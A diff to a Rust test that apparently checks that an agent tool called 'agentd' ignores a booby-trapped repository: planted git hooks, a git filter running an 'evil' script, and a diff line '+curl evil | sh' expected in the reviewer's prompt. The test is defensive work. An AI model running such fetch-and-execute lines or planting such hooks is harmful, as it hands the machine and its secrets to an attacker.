@@ -150,6 +150,7 @@ fn git_configuration(project: &TestProject, evil: &str) {
         fs::copy(evil, hooks.join(hook)).unwrap();
         fs::set_permissions(hooks.join(hook), fs::Permissions::from_mode(0o755)).unwrap();
     }
+
     write(
         &project.home().join("included"),
         format!("[filter \"evil\"]\n\tprocess = {evil}\n"),
@@ -297,6 +298,7 @@ fn check(project: &TestProject, args: &[&str], run: &Run) {
         !marker_file(project).exists(),
         "{args:?} ran a command of the repository: {run:?}"
     );
+
     for (name, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
         assert!(!text.contains(KEY), "{args:?}: the key is on {name}");
         assert!(
@@ -304,12 +306,14 @@ fn check(project: &TestProject, args: &[&str], run: &Run) {
             "{args:?}: a file of the machine is on {name}"
         );
     }
+
     // Messages about names; a prompt on stdout is data.
     let obeys = |line: &&str| {
         OBEYED
             .iter()
             .any(|word| line.trim_start().starts_with(word))
     };
+
     assert_eq!(
         run.stderr.lines().find(obeys),
         None,
@@ -342,8 +346,10 @@ fn commands_ignore_a_repository_with_every_trick() {
     fs::remove_file(project.root().join(".agentd/ledger.db")).unwrap();
     let args = ["review", "--base", "main", "--trust"];
     let reviewed = run(&project, &args, true);
+
     check(&project, &args, &reviewed);
     assert_eq!(reviewed.code, 1, "{reviewed:?}");
+
     for words in [
         "warning: this branch edits agentd's definitions",
         "not shown to the reviewer: .envrc",
@@ -355,6 +361,7 @@ fn commands_ignore_a_repository_with_every_trick() {
             reviewed.stderr
         );
     }
+
     let prompt = run(&project, &["show", "last", "--prompt"], false);
     assert!(prompt.stdout.contains("+curl evil | sh"), "{prompt:?}");
     assert!(
@@ -366,5 +373,6 @@ fn commands_ignore_a_repository_with_every_trick() {
         let run = run(&project, args, answers);
         check(&project, args, &run);
     }
+
     assert_eq!(project.read("a.txt"), "two\n");
 }
